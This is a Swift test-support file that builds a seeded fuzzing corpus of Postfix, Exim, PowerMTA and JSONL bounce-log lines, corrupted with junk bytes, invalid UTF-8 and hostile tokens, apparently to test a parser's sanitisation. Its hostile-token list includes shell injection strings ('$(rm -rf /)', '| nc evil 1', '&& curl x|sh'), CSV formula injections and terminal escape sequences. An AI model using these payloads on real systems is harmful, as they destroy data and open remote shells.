import Foundation
@testable import BounceCore

/// SplitMix64: a tiny seeded generator, so every hostile corpus is reproducible from its seed.
struct SeededRNG: RandomNumberGenerator {
    private var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

/// A seeded, deterministic corpus of hostile log input (issue 6 item 2): real lines of every
/// format, and the ways they arrive broken or malicious in the field.
enum HostileCorpus {
    // MARK: real lines (one of each shape per format)

    static let postfix: [String] = [
        "Nov  2 16:08:08 smtp2.example.com postfix/smtp[7674]: 7905611F797: to=<skyline.chen@icloud.com>, relay=mx3.mail.icloud.com[17.172.34.64]:25, delay=10, delays=0.04/0/6.2/4.1, dsn=2.5.0, status=sent (250 2.5.0 Ok.)",
        "2026-03-03T10:45:35.473746+00:00 mail postfix/smtp[1013986]: 3172D762A5D: to=<arharradine@me.com>, relay=mx01.mail.icloud.com[17.56.9.31]:25, delay=6.3, delays=0.1/0/1.1/5.1, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as D04B3C0008B)",
        "Feb  5 17:24:35 mail postfix/smtp[9635]: D298F2C60812: to=<\"user 1234 with space\"@icloud.com>, relay=mx6.mail.icloud.com[17.178.97.79]:25, delay=428621, delays=428619/0.02/1.9/0, dsn=4.7.0, status=deferred (host mx6.mail.icloud.com[17.178.97.79] refused to talk to me: 550 5.7.0 Blocked - see https://support.proofpoint.com/dnsbl-lookup.cgi?ip=142.93.169.220)",
        "Aug 28 10:12:10 nbh2 postfix-google/smtp[28345]: 7A7D47BDC: to=<www.xx@gmail.com>, relay=gmail-smtp-in.l.google.com[74.125.133.26]:25, delay=123, delays=0.71/123/0.03/0.02, dsn=5.1.1, status=bounced (host gmail-smtp-in.l.google.com[74.125.133.26] said: 550-5.1.1 The email account that you tried to reach does not exist. Please try 550-5.1.1 double-checking the recipient's email address for typos or 550-5.1.1 unnecessary spaces. Learn more at 550 5.1.1  https://support.google.com/mail/?p=NoSuchUser x4si35533wrd.231 - gsmtp (in reply to RCPT TO command))",
        "postfix-mailcow-1  | Apr 14 07:56:25 1230db0bd489 postfix/smtp[30396]: 11C9513477F0: to=<redacted1@icloud.com>, relay=mx02.mail.icloud.com[17.57.152.5]:25, delay=47, delays=12/0.5/1.1/34, dsn=5.5.1, status=bounced (host mx02.mail.icloud.com[17.57.152.5] said: 503 5.5.1 Error: need MAIL command (in reply to RCPT TO command))",
        "Feb  3 04:41:17 mail postfix/smtp[10603]: AE8E32C60819: to=<mail@e.mail.com>, relay=none, delay=0.02, delays=0.01/0/0.01/0, dsn=5.4.4, status=bounced (Host or domain name not found. Name service error for name=e.mail.com type=AAAA: Host not found)",
        "Nov  2 16:32:21 smtp2.example.com postfix/smtp[7732]: 1DCD811F940: to=<1608014274@qqq.com>, relay=none, delay=368099, delays=368069/0.05/30/0, dsn=4.4.1, status=deferred (connect to qqq.com[60.190.249.48]:25: Connection timed out)",
        "Nov  2 16:32:22 smtp2.example.com postfix/qmgr[7001]: 1DCD811F940: from=<news@example.com>, status=expired, returned to sender",
        "Nov  2 16:32:23 smtp2.example.com postfix/smtpd[7002]: connect from unknown[10.0.0.1]",
    ]

    static let exim: [String] = [
        "2019-08-08 17:02:11 1hvjYd-0003nV-Qm ** perla11381@icloud.com R=dnslookup T=remote_smtp H=mx01.mail.icloud.com [17.57.154.6] X=TLS1.2:ECDHE-RSA-AES256-GCM-SHA384:256 CV=yes: SMTP error from remote mail server after RCPT TO:<perla11381@icloud.com>: 550 5.1.1 <perla11381@icloud.com>: user does not exist",
        "2019-08-08 17:02:12 1hvjYd-0003nV-Qn => someone@gmail.com R=dnslookup T=remote_smtp H=gmail-smtp-in.l.google.com [74.125.133.26] X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=yes C=\"250 2.0.0 OK  1565283732 x4si35533wrd.231 - gsmtp\"",
        "2019-08-08 17:02:13 1hvjYd-0003nV-Qo == over@me.com R=dnslookup T=remote_smtp defer (-44) H=mx02.mail.icloud.com [17.57.155.25]: SMTP error from remote mail server after RCPT TO:<over@me.com>: 452 4.2.2 user is overquota",
        "2024-01-02 03:04:05.678 +0100 [12345] 1rKhBt-00000000abc-0xYz -> alias@example.org R=local_user T=local_delivery",
    ]

    static let pmta: [String] = [
        "type,timeLogged,timeQueued,orig,rcpt,orcpt,dsnAction,dsnStatus,dsnDiag,dsnMta,bounceCat,srcType,srcMta,dlvType,dlvSourceIp,dlvDestinationIp,dlvEsmtpAvailable,dlvSize,vmta,jobId,envId,queue,vmtaPool",
        "d,2026-09-21 12:00:07+0000,2026-09-21 11:59:00+0000,b@em.discountblog.com,u7@gmail.com,,relayed,2.0.0,\"250 ok\",mx.gmail.com,,smtp,,smtp,15.204.101.125,142.250.1.1,1,1234,db-gmail-pool,job7,,gmail.com/db-gmail-pool,db-gmail-pool",
        "b,1565283731,1565283700,b@em.discountblog.com,perla11381@icloud.com,,failed,5.1.1 (bad destination mailbox address),\"smtp;550 5.1.1 <perla11381@icloud.com>: user does not exist\",mx01.mail.icloud.com (17.57.154.6),bad-mailbox,smtp,,smtp,15.204.101.125,17.57.154.6,1,2345,db-apple-pool,job7,env-42,icloud.com/db-apple-pool,db-apple-pool",
        "t,1565283790.25,1565283700,b@em.discountblog.com,over@me.com,,delayed,4.2.2,\"smtp;452 4.2.2 user is overquota\",mx02.mail.icloud.com (17.57.155.25),quota-issues,smtp,,smtp,15.204.101.125,17.57.155.25,1,2345,db-apple-pool,job7,,me.com/db-apple-pool,db-apple-pool",
    ]

    static let jsonl: [String] = [
        #"{"timestamp":"2019-08-08T17:02:11Z","event":"bounced","recipient":"n1@icloud.com","status":"5.1.1","diagnostic":"550 5.1.1 <n1@icloud.com>: user does not exist","mx":"mx01.mail.icloud.com [17.57.154.6]"}"#,
        #"{"timestamp":1565283731,"event":"delivered","recipient":"n2@gmail.com","mx":"gmail-smtp-in.l.google.com"}"#,
        #"{"notificationType":"Bounce","bounce":{"bounceType":"Permanent","bounceSubType":"General","bouncedRecipients":[{"emailAddress":"perla11381@icloud.com","action":"failed","status":"5.1.1","diagnosticCode":"smtp; 550 5.1.1 <perla11381@icloud.com>: user does not exist"}],"timestamp":"2021-01-18T15:03:56.000Z","remoteMtaIp":"17.57.152.14"},"mail":{"timestamp":"2021-01-18T15:03:55.000Z","destination":["perla11381@icloud.com"]}}"#,
        #"[{"email":"sg@icloud.com","timestamp":1565283731,"event":"bounce","reason":"550 5.1.1 user does not exist","status":"5.1.1","type":"bounce"}]"#,
    ]

    static func realLines(_ f: SourceFormat) -> [String] {
        switch f {
        case .postfix: postfix
        case .exim: exim
        case .pmta: pmta
        case .jsonl: jsonl
        }
    }

    // MARK: hostile tokens

    /// Terminal escapes (CSI, OSC title, C1 CSI as a scalar), bidi overrides/isolates, CSV
    /// formula prefixes (ASCII and full-width) and shell metacharacters.
    static let hostileStrings: [String] = [
        "\u{1B}[2J\u{1B}[H", "\u{1B}]0;pwned\u{07}", "\u{1B}]8;;http://evil\u{1B}\\link\u{1B}]8;;\u{1B}\\",
        "\u{9B}31m", "\u{9D}0;title\u{9C}", "\u{1B}P+q\u{1B}\\", "\u{1B}c", "\u{07}\u{08}\u{7F}",
        "\u{202E}moc.duolci", "\u{2066}x\u{2069}", "\u{2067}\u{2068}y", "\u{200F}\u{061C}",
        "=HYPERLINK(\"http://evil\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
        "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x",
        "$(rm -rf /)", "`id`", "; rm -rf ~", "| nc evil 1", "&& curl x|sh", "'\"\\", "%0a%0d",
        "\u{0}nul\u{0}", "line\nbreak", "a\r\nb", "\u{2028}\u{2029}", "\u{FEFF}bom", "😀👩‍👩‍👧", "\u{0301}combining",
    ]

    /// Addresses carrying hostile tokens (they must never reach a terminal or a sheet raw).
    static var hostileAddresses: [String] {
        hostileStrings.enumerated().map { i, s in
            i % 3 == 0 ? s + "@icloud.com" : i % 3 == 1 ? "user\(i)" + s + "@me.com" : "x\(i)@ic" + s + "loud.com"
        }
    }

    // MARK: byte-level generators

    static func binaryJunk(_ rng: inout SeededRNG, length: Int) -> [UInt8] {
        (0..<length).map { _ in UInt8.random(in: 0...255, using: &rng) }
    }

    /// Invalid UTF-8: lone continuation bytes, overlongs, surrogates, truncated sequences, 0xFF.
    static let invalidUTF8: [[UInt8]] = [
        [0x80], [0xBF, 0x80], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80],
        [0xF0, 0x9F, 0x98], [0xE2, 0x82], [0xFF, 0xFE], [0xC3], [0xF8, 0x88, 0x80, 0x80, 0x80], [0x9B, 0x33, 0x31, 0x6D],
    ]

    /// A real line with its recipient and/or reply text replaced by hostile bytes.
    static func poisoned(_ line: String, recipient: String, payload: [UInt8]) -> [UInt8] {
        var s = line
        for real in ["skyline.chen@icloud.com", "www.xx@gmail.com", "redacted1@icloud.com", "perla11381@icloud.com",
                     "u7@gmail.com", "n1@icloud.com", "over@me.com", "someone@gmail.com"] {
            s = s.replacingOccurrences(of: real, with: recipient)
        }
        var bytes = Array(s.utf8)
        // Put the payload inside the reply text (before its last character, usually `)` or `"`).
        for marker in ["user does not exist", "Ok.", "need MAIL command", "250 ok"] {
            if let r = s.range(of: marker) {
                let at = s.utf8.distance(from: s.utf8.startIndex, to: r.upperBound)
                bytes.insert(contentsOf: payload, at: at)
                return bytes
            }
        }
        return bytes + payload
    }

    /// The whole corpus for one format as lines (no terminators): each entry is one line as it
    /// will be handed to a parser. Deterministic for a seed.
    static func lines(for format: SourceFormat, seed: UInt64) -> [[UInt8]] {
        var rng = SeededRNG(seed: seed)
        let real = realLines(format).map { Array($0.utf8) }
        var out: [[UInt8]] = real
        // binary junk of every length class, with and without NULs
        for n in [1, 2, 7, 64, 300, 4096] { out.append(binaryJunk(&rng, length: n).filter { $0 != 10 }) }
        out.append([UInt8](repeating: 0, count: 100))
        out.append([])
        out.append(Array("   \t  ".utf8))
        // invalid UTF-8 on its own and spliced into real lines
        for (k, bad) in invalidUTF8.enumerated() {
            out.append(bad)
            var l = real[k % real.count]
            l.insert(contentsOf: bad, at: Int.random(in: 0...l.count, using: &rng))
            out.append(l)
        }
        // NULs inside real lines
        for l in real {
            var m = l
            m.insert(0, at: m.count / 2)
            out.append(m)
            out.append([0] + l)
        }
        // hostile addresses and reply texts
        for (k, addr) in hostileAddresses.enumerated() {
            let line = realLines(format)[k % real.count]
            let payload = Array(hostileStrings[(k * 7) % hostileStrings.count].utf8)
            out.append(poisoned(line, recipient: addr, payload: payload))
        }
        // lone CR inside, and a CR kept at the start (`\n\r` endings shift the CR to the next line)
        for l in real { out.append([13] + l); out.append(l + [13, 13]) }
        // random splices of two real lines
        for _ in 0..<20 {
            let a = real.randomElement(using: &rng)!, b = real.randomElement(using: &rng)!
            out.append(Array(a.prefix(Int.random(in: 0...a.count, using: &rng))) + Array(b.suffix(Int.random(in: 0...b.count, using: &rng))))
        }
        // lines must not contain LF (they are lines); CR is allowed except at the very end, where
        // the splitter would strip it
        return out.map { line in line.map { $0 == 10 ? 32 : $0 } }
    }

    /// The lines joined into a file with a seeded mix of `\n` and `\r\n` terminators.
    static func file(_ lines: [[UInt8]], seed: UInt64) -> [UInt8] {
        var rng = SeededRNG(seed: seed)
        var out: [UInt8] = []
        for l in lines {
            out += l
            if l.last != 13, Bool.random(using: &rng) { out.append(13) }
            out.append(10)
        }
        return out
    }
}
